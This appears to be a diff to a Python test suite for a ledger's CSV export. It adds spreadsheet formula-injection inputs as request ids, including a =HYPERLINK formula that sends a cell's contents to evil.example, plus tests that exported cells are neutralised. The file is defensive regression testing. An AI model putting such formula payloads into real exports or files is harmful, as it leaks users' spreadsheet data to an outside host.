@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import shutil
@@ -30,7 +31,18 @@ from atm.office.replay import BadFile, read_csv, read_jsonl
 from tests.support.entries import logged, time_us
 from tests.support.story import RECORDS, write_ledger
 
-HOSTILE_IDS = ['"', "\\", ";", "date:2020-13-77", "[2020-99-99]", "a)b|c,d", "\\\"#!'", "*", "{}", "=1+1"]
+HOSTILE_IDS = ['"', "\\", ";", "date:2020-13-77", "[2020-99-99]", "a)b|c,d", "\\\"#!'", "*", "{}"]
+FORMULA_IDS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@a",
+    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
+    "'=1",
+    "''-",
+    "'",
+    "'a",
+]
 Writer = Callable[[list[AccountLine], list[JournalLine], TextIO], None]
 
 
@@ -85,7 +97,7 @@ def ledger(tmp_path: Path) -> Path:
     with closing(Ledger(path)) as opened:
         first = len(RECORDS) + 1
         commands: list[LogCommand] = [Open(id="o9", account="9-lives.__"), Open(id="o10", account="Alice")]
-        commands += [Credit(id=text, account="9-lives.__", amount=1) for text in HOSTILE_IDS]
+        commands += [Credit(id=text, account="9-lives.__", amount=1) for text in (*HOSTILE_IDS, *FORMULA_IDS)]
         days_us = 86_400_000_000
         opened.apply([(n, time_us(n) + n * days_us, logged(each)) for n, each in enumerate(commands, first)])
     return path
@@ -155,8 +167,29 @@ def test_what_is_exported_is_read_as_it_was(
 ) -> None:
     text = io.StringIO()
     write(lines, text)
-    assert len(lines) == 19 + len(HOSTILE_IDS)
+    assert len(lines) == 19 + len(HOSTILE_IDS) + len(FORMULA_IDS)
     assert list(read(io.StringIO(text.getvalue(), newline=""))) == lines
+
+
+def test_no_cell_of_a_csv_export_is_a_formula_to_a_spreadsheet(lines: list[JournalLine]) -> None:
+    """Trial M5: in release 1.1.0 (e233312), a request id such as =HYPERLINK(…) stood in the file as it is."""
+    below_zero = msgspec.structs.replace(lines[0], credit_balance=-(2**53))
+    text = io.StringIO()
+    books.write_csv([*lines, below_zero], text)
+    rows = list(csv.reader(io.StringIO(text.getvalue(), newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    dangerous = [cell for cell in cells if cell[:1] in set("=+-@\t\r\n")]
+    assert str(-(2**53)) in dangerous, "a number stays a number"
+    assert [cell for cell in dangerous if not re.fullmatch(r"-[0-9]{3,}", cell)] == []
+    for request_id in FORMULA_IDS[:5]:
+        assert f"'{request_id}" in cells
+
+
+@given(st.text(alphabet="'=+-@\t\r\na1", max_size=6))
+def test_a_cell_that_was_made_safe_is_read_as_it_was(text: str) -> None:
+    cell = books.safe_cell(text)
+    assert cell[:1] not in set("=+-@\t\r\n") or not cell
+    assert books.cell_text(cell) == text
 
 
 @pytest.mark.parametrize(
@@ -197,7 +230,7 @@ def test_the_command_exports_a_ledger_in_use(ledger: Path, capsys: pytest.Captur
         assert main(["export", str(ledger), "--format", "csv"]) == 0
     rows = capsys.readouterr().out.splitlines()
     assert rows[0].startswith("posting,time_us,op,request_id,")
-    assert len(rows) == 1 + 19 + len(HOSTILE_IDS)
+    assert len(rows) == 1 + 19 + len(HOSTILE_IDS) + len(FORMULA_IDS)
 
 
 @pytest.mark.parametrize(
